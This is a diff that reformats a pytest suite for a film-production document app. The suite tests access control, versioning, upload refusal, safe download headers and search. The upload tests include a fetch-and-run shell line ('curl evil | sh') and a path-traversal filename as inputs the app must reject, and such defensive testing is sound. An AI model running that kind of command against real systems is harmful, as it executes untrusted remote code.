@@ -1,11 +1,11 @@
 """Production paperwork: who sees what, versions, archive, uploads, downloads and search."""
+
 import hashlib
 import io
 import re
 
 import pytest
 import sqlalchemy as sa
-
 from werkzeug.datastructures import FileStorage, MultiDict
 from werkzeug.test import encode_multipart
 
@@ -28,8 +28,10 @@ class Seeded:
         production = db.session.scalar(sa.select(Production).where(Production.title == title))
         self.id = production.id
         self.days = [d.id for d in production.shoot_days]
-        self.locations = {place.name: place.id for place in db.session.scalars(
-            sa.select(Location).where(Location.production_id == production.id))}
+        self.locations = {
+            place.name: place.id
+            for place in db.session.scalars(sa.select(Location).where(Location.production_id == production.id))
+        }
         self.departments = {d.name: d.id for d in production.departments}
 
 
@@ -46,8 +48,15 @@ def office(demo, store):
         art = db.session.scalar(sa.select(Person).where(Person.name == "Hugo Petit"))
         art.user = User(email=ART_CREW, name="Hugo Petit", password_hash=hash_password(PASSWORD))
         ferry = Seeded("Night Ferry (short)")
-        db.session.add(Person(production_id=ferry.id, role=COORDINATOR, name="Ffion Jones", email=FERRY_OFFICE,
-                              user=User(email=FERRY_OFFICE, name="Ffion Jones", password_hash=hash_password(PASSWORD))))
+        db.session.add(
+            Person(
+                production_id=ferry.id,
+                role=COORDINATOR,
+                name="Ffion Jones",
+                email=FERRY_OFFICE,
+                user=User(email=FERRY_OFFICE, name="Ffion Jones", password_hash=hash_password(PASSWORD)),
+            )
+        )
         db.session.commit()
         return {"iron": Seeded("The Iron Men"), "ferry": ferry}
 
@@ -103,20 +112,42 @@ def shared(client, auth, iron):
     auth.login()
     cam, art = iron.departments["Camera"], iron.departments["Art"]
     ids = {
-        "map": uploaded(client, iron.id, kind="map", title="Unit base map", content=PNG, filename="map.png",
-                        visibility="everyone"),
-        "camera": uploaded(client, iron.id, kind="sides", title="Camera sides", visibility="departments",
-                           department_ids=[str(cam)], content=PDF + b"camera"),
-        "art": uploaded(client, iron.id, kind="other", title="Set dressing list", visibility="departments",
-                        department_ids=[str(art)], content=PDF + b"art"),
-        "office": uploaded(client, iron.id, kind="insurance", title="Public liability certificate",
-                           visibility="coordinators", content=PDF + b"office"),
+        "map": uploaded(
+            client, iron.id, kind="map", title="Unit base map", content=PNG, filename="map.png", visibility="everyone"
+        ),
+        "camera": uploaded(
+            client,
+            iron.id,
+            kind="sides",
+            title="Camera sides",
+            visibility="departments",
+            department_ids=[str(cam)],
+            content=PDF + b"camera",
+        ),
+        "art": uploaded(
+            client,
+            iron.id,
+            kind="other",
+            title="Set dressing list",
+            visibility="departments",
+            department_ids=[str(art)],
+            content=PDF + b"art",
+        ),
+        "office": uploaded(
+            client,
+            iron.id,
+            kind="insurance",
+            title="Public liability certificate",
+            visibility="coordinators",
+            content=PDF + b"office",
+        ),
     }
     auth.logout()
     return ids
 
 
 # Who sees what ---------------------------------------------------------------------------
+
 
 def test_crew_see_documents_for_everyone_and_for_their_own_department_only(client, auth, iron, shared):
     auth.login(CAMERA_CREW)
@@ -159,9 +190,15 @@ def test_contracts_are_production_office_only_unless_the_coordinator_chooses(cli
 
 def test_a_coordinator_can_change_who_sees_a_document(client, auth, iron, shared):
     auth.login()
-    response = client.post(f"/p/{iron.id}/documents/{shared['office']}/edit", data={
-        "kind": "insurance", "title": "Public liability certificate", "visibility": "departments",
-        "department_ids": [str(iron.departments["Camera"])]})
+    response = client.post(
+        f"/p/{iron.id}/documents/{shared['office']}/edit",
+        data={
+            "kind": "insurance",
+            "title": "Public liability certificate",
+            "visibility": "departments",
+            "department_ids": [str(iron.departments["Camera"])],
+        },
+    )
     assert response.status_code == 303
     auth.login(CAMERA_CREW)
     assert client.get(f"/p/{iron.id}/documents/{shared['office']}").status_code == 200
@@ -172,8 +209,10 @@ def test_a_coordinator_can_change_who_sees_a_document(client, auth, iron, shared
 def test_editing_tags_keeps_the_ones_still_wanted_and_drops_the_rest(client, auth, iron):
     auth.login()
     doc_id = uploaded(client, iron.id, tags="dock, night")
-    response = client.post(f"/p/{iron.id}/documents/{doc_id}/edit", data={
-        "kind": "permit", "title": "Dock filming permit", "tags": "Night, parking", "visibility": "everyone"})
+    response = client.post(
+        f"/p/{iron.id}/documents/{doc_id}/edit",
+        data={"kind": "permit", "title": "Dock filming permit", "tags": "Night, parking", "visibility": "everyone"},
+    )
     assert response.status_code == 303
     assert page(client, f"/p/{iron.id}/documents/{doc_id}/edit").count('value="night, parking"') == 1
     assert listed(client, f"/p/{iron.id}/documents/?tag=parking") == {"Dock filming permit"}
@@ -205,9 +244,13 @@ def test_another_productions_coordinator_gets_404_for_documents_and_downloads(cl
     assert client.get(f"/p/{iron.id}/documents/").status_code == 404
     assert client.get(f"/p/{iron.id}/documents/new").status_code == 404
     for doc_id in shared.values():
-        for url in (f"/p/{iron.id}/documents/{doc_id}", f"/p/{iron.id}/documents/{doc_id}/versions/1/download",
-                    f"/p/{ferry.id}/documents/{doc_id}", f"/p/{ferry.id}/documents/{doc_id}/versions/1/download",
-                    f"/p/{ferry.id}/documents/{doc_id}/edit"):
+        for url in (
+            f"/p/{iron.id}/documents/{doc_id}",
+            f"/p/{iron.id}/documents/{doc_id}/versions/1/download",
+            f"/p/{ferry.id}/documents/{doc_id}",
+            f"/p/{ferry.id}/documents/{doc_id}/versions/1/download",
+            f"/p/{ferry.id}/documents/{doc_id}/edit",
+        ):
             assert client.get(url).status_code == 404, url
         for action in ("archive", "restore", "edit"):
             assert client.post(f"/p/{ferry.id}/documents/{doc_id}/{action}").status_code == 404
@@ -219,10 +262,13 @@ def test_signed_out_visitors_are_sent_to_sign_in(client, iron, shared):
     assert response.status_code == 302 and "/login" in response.headers["Location"]
 
 
-@pytest.mark.parametrize(("field", "message"), [
-    ("shoot_day_id", "Choose a shoot day of this production."),
-    ("location_id", "Choose a location of this production."),
-])
+@pytest.mark.parametrize(
+    ("field", "message"),
+    [
+        ("shoot_day_id", "Choose a shoot day of this production."),
+        ("location_id", "Choose a location of this production."),
+    ],
+)
 def test_a_day_or_location_of_another_production_is_a_field_error(client, auth, office, store, field, message):
     ferry = office["ferry"]
     foreign = ferry.days[0] if field == "shoot_day_id" else next(iter(ferry.locations.values()))
@@ -243,6 +289,7 @@ def test_departments_of_another_production_are_a_field_error(client, auth, offic
 
 # Versions and archive --------------------------------------------------------------------
 
+
 def test_a_new_version_keeps_the_history_and_every_version_downloads(client, auth, iron):
     auth.login()
     doc_id = uploaded(client, iron.id, title="Parking map", kind="map", content=PNG, filename="parking-v1.png")
@@ -257,11 +304,13 @@ def test_a_new_version_keeps_the_history_and_every_version_downloads(client, aut
     second_download = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/2/download")
     assert second_download.data == second and second_download.mimetype == "application/pdf"
     with client.application.app_context():
-        versions = db.session.scalars(sa.select(DocumentVersion).where(
-            DocumentVersion.document_id == doc_id).order_by(DocumentVersion.number)).all()
+        versions = db.session.scalars(
+            sa.select(DocumentVersion).where(DocumentVersion.document_id == doc_id).order_by(DocumentVersion.number)
+        ).all()
         assert [(v.number, v.filename, v.size, v.content_type, v.sha256) for v in versions] == [
             (1, "parking-v1.png", len(PNG), "image/png", hashlib.sha256(PNG).hexdigest()),
-            (2, "parking-v2.pdf", len(second), "application/pdf", hashlib.sha256(second).hexdigest())]
+            (2, "parking-v2.pdf", len(second), "application/pdf", hashlib.sha256(second).hexdigest()),
+        ]
         assert {v.uploaded_by.name for v in versions} == {"Dana Whitfield"}
     assert fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/3/download").status_code == 404
 
@@ -294,14 +343,19 @@ def test_archived_documents_leave_the_list_and_crew_view_until_restored(client, 
 
 # Uploads ------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize(("content", "filename", "says"), [
-    (b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "call-sheet.pdf", "a program"),
-    (b"MZ\x90\x00" + b"\x00" * 64, "budget.xlsx", "Windows program"),
-    (b"#!/bin/bash\ncurl evil | sh\n", "notes.txt", "a script"),
-    (b"", "empty.pdf", "The file is empty."),
-])
-def test_programs_scripts_and_empty_files_are_refused_and_nothing_is_kept(client, auth, iron, store,
-                                                                           content, filename, says):
+
+@pytest.mark.parametrize(
+    ("content", "filename", "says"),
+    [
+        (b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "call-sheet.pdf", "a program"),
+        (b"MZ\x90\x00" + b"\x00" * 64, "budget.xlsx", "Windows program"),
+        (b"#!/bin/bash\ncurl evil | sh\n", "notes.txt", "a script"),
+        (b"", "empty.pdf", "The file is empty."),
+    ],
+)
+def test_programs_scripts_and_empty_files_are_refused_and_nothing_is_kept(
+    client, auth, iron, store, content, filename, says
+):
     auth.login()
     response = upload(client, iron.id, content=content, filename=filename)
     assert response.status_code == 422
@@ -315,15 +369,17 @@ def test_a_plain_form_upload_carries_its_csrf_token_as_a_field(client, auth, iro
     values = MultiDict({"csrf_token": token, "kind": "map", "title": "Parking map"})
     values.add("file", FileStorage(io.BytesIO(PNG), filename="map.png"))
     boundary, body = encode_multipart(values)
-    response = client.post(f"/p/{iron.id}/documents/new", data=body, csrf=False,
-                           content_type=f'multipart/form-data; boundary="{boundary}"')
+    response = client.post(
+        f"/p/{iron.id}/documents/new", data=body, csrf=False, content_type=f'multipart/form-data; boundary="{boundary}"'
+    )
     assert response.status_code == 303
 
 
 def test_an_upload_without_a_file_asks_for_one(client, auth, iron):
     auth.login()
-    response = client.post(f"/p/{iron.id}/documents/new", data={"kind": "permit", "title": "Permit"},
-                           content_type="multipart/form-data")
+    response = client.post(
+        f"/p/{iron.id}/documents/new", data={"kind": "permit", "title": "Permit"}, content_type="multipart/form-data"
+    )
     assert response.status_code == 422 and "Choose a file to upload." in response.get_data(as_text=True)
 
 
@@ -349,8 +405,9 @@ def test_a_request_far_over_the_limit_is_refused_with_413_and_a_clear_message(cl
     client.application.config["DOCUMENT_MAX_BYTES"] = 1024 * 1024
     auth.login()
     # The length alone refuses it: the body is never read.
-    response = client.post(f"/p/{iron.id}/documents/new", data=b"0" * (2 * 1024 * 1024),
-                           content_type="multipart/form-data; boundary=cut")
+    response = client.post(
+        f"/p/{iron.id}/documents/new", data=b"0" * (2 * 1024 * 1024), content_type="multipart/form-data; boundary=cut"
+    )
     assert response.status_code == 413
     assert "larger than 1 MB" in response.get_data(as_text=True)
     assert stored_files(store) == []
@@ -370,7 +427,8 @@ def test_a_name_with_path_separators_is_only_a_name(client, auth, iron, store):
     doc_id = uploaded(client, iron.id, filename="../../../instance/secret_key\t\x1b.pdf")
     response = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download?attachment=1")
     assert response.headers["Content-Disposition"] == (
-        "attachment; filename=\"secret_key.pdf\"; filename*=UTF-8''secret_key.pdf")
+        "attachment; filename=\"secret_key.pdf\"; filename*=UTF-8''secret_key.pdf"
+    )
     digest = hashlib.sha256(PDF).hexdigest()
     assert stored_files(store) == [store / digest[:2] / digest[2:4] / digest]
     assert "secret_key.pdf" in page(client, f"/p/{iron.id}/documents/{doc_id}")
@@ -395,14 +453,17 @@ def test_identical_files_are_stored_once_and_shared_by_their_versions(client, au
 
 # Downloads ----------------------------------------------------------------------------------
 
+
 def test_a_pdf_opens_inline_in_a_sandbox_with_safe_headers(client, auth, iron):
     auth.login()
     doc_id = uploaded(client, iron.id, filename="Genehmigung Hafen – März.pdf")
     response = fetch(client, f"/p/{iron.id}/documents/{doc_id}/versions/1/download")
     headers = response.headers
     assert headers["Content-Type"] == "application/pdf"
-    assert headers["Content-Disposition"] == ("inline; filename=\"Genehmigung Hafen  Marz.pdf\"; "
-                                              "filename*=UTF-8''Genehmigung%20Hafen%20%E2%80%93%20M%C3%A4rz.pdf")
+    assert headers["Content-Disposition"] == (
+        'inline; filename="Genehmigung Hafen  Marz.pdf"; '
+        "filename*=UTF-8''Genehmigung%20Hafen%20%E2%80%93%20M%C3%A4rz.pdf"
+    )
     assert headers["X-Content-Type-Options"] == "nosniff"
     assert headers["Cache-Control"].startswith("private")
     assert headers["Content-Security-Policy"].startswith("sandbox")
@@ -416,10 +477,13 @@ def test_asking_for_a_download_saves_the_file_instead_of_opening_it(client, auth
     assert response.headers["Content-Disposition"].startswith("attachment;")
 
 
-@pytest.mark.parametrize(("content", "filename", "content_type"), [
-    (DOCX, "contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
-    ("Name,Call\nRosa,06:30\n".encode(), "calls.csv", "text/csv; charset=utf-8"),
-])
+@pytest.mark.parametrize(
+    ("content", "filename", "content_type"),
+    [
+        (DOCX, "contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+        (b"Name,Call\nRosa,06:30\n", "calls.csv", "text/csv; charset=utf-8"),
+    ],
+)
 def test_office_documents_and_text_are_always_saved_not_shown(client, auth, iron, content, filename, content_type):
     auth.login()
     doc_id = uploaded(client, iron.id, content=content, filename=filename)
@@ -440,19 +504,35 @@ def test_a_phone_that_has_the_file_revalidates_cheaply(client, auth, iron):
 
 # Search and filters ------------------------------------------------------------------------
 
+
 @pytest.fixture
 def filed(client, auth, iron):
     """Documents tagged and attached to days and locations."""
     auth.login()
     warehouse, beach = iron.locations["Harbour Warehouse"], iron.locations["Crosby Beach"]
     return {
-        "permit": uploaded(client, iron.id, kind="permit", title="Dock 100% closure permit", tags="Night, dock",
-                           shoot_day_id=str(iron.days[3]), location_id=str(warehouse)),
-        "map": uploaded(client, iron.id, kind="map", title="Beach parking map", tags="parking",
-                        location_id=str(beach), content=PNG),
-        "risk": uploaded(client, iron.id, kind="risk_assessment", title="Water work risk assessment",
-                         visibility="departments", department_ids=[str(iron.departments["Grip & Electric"])],
-                         tags="water, dock", content=PDF + b"risk"),
+        "permit": uploaded(
+            client,
+            iron.id,
+            kind="permit",
+            title="Dock 100% closure permit",
+            tags="Night, dock",
+            shoot_day_id=str(iron.days[3]),
+            location_id=str(warehouse),
+        ),
+        "map": uploaded(
+            client, iron.id, kind="map", title="Beach parking map", tags="parking", location_id=str(beach), content=PNG
+        ),
+        "risk": uploaded(
+            client,
+            iron.id,
+            kind="risk_assessment",
+            title="Water work risk assessment",
+            visibility="departments",
+            department_ids=[str(iron.departments["Grip & Electric"])],
+            tags="water, dock",
+            content=PDF + b"risk",
+        ),
     }
 
 
@@ -460,16 +540,19 @@ def listed(client, url) -> set[str]:
     return set(re.findall(r'class="doc-title" href="[^"]+">([^<]+)<', page(client, url)))
 
 
-@pytest.mark.parametrize(("query", "titles"), [
-    ("", {"Dock 100% closure permit", "Beach parking map", "Water work risk assessment"}),
-    ("kind=map", {"Beach parking map"}),
-    ("tag=dock", {"Dock 100% closure permit", "Water work risk assessment"}),
-    ("tag=DOCK", {"Dock 100% closure permit", "Water work risk assessment"}),
-    ("q=PARKING", {"Beach parking map"}),
-    ("q=100%25", {"Dock 100% closure permit"}),
-    ("q=10_", set()),
-    ("kind=permit&tag=parking", set()),
-])
+@pytest.mark.parametrize(
+    ("query", "titles"),
+    [
+        ("", {"Dock 100% closure permit", "Beach parking map", "Water work risk assessment"}),
+        ("kind=map", {"Beach parking map"}),
+        ("tag=dock", {"Dock 100% closure permit", "Water work risk assessment"}),
+        ("tag=DOCK", {"Dock 100% closure permit", "Water work risk assessment"}),
+        ("q=PARKING", {"Beach parking map"}),
+        ("q=100%25", {"Dock 100% closure permit"}),
+        ("q=10_", set()),
+        ("kind=permit&tag=parking", set()),
+    ],
+)
 def test_documents_are_found_by_type_tag_and_title(client, iron, filed, query, titles):
     assert listed(client, f"/p/{iron.id}/documents/?{query}") == titles
 
@@ -500,6 +583,7 @@ def test_a_bad_filter_is_a_422_with_a_message(client, iron, filed):
 
 # The call sheet's paperwork: tests/test_paperwork.py ---------------------------------------
 
+
 def test_the_list_costs_the_same_number_of_queries_for_three_documents_or_thirty(client, app, auth, iron):
     auth.login()
     warehouse = str(iron.locations["Harbour Warehouse"])
@@ -517,8 +601,16 @@ def test_the_list_costs_the_same_number_of_queries_for_three_documents_or_thirty
 
     def add(count, start):
         for n in range(start, start + count):
-            uploaded(client, iron.id, title=f"Sides {n}", kind="sides", tags=f"day {n % 5}", location_id=warehouse,
-                     shoot_day_id=str(iron.days[n % 5]), content=PDF + str(n).encode())
+            uploaded(
+                client,
+                iron.id,
+                title=f"Sides {n}",
+                kind="sides",
+                tags=f"day {n % 5}",
+                location_id=warehouse,
+                shoot_day_id=str(iron.days[n % 5]),
+                content=PDF + str(n).encode(),
+            )
 
     add(3, 0)
     few = queries_for_list()
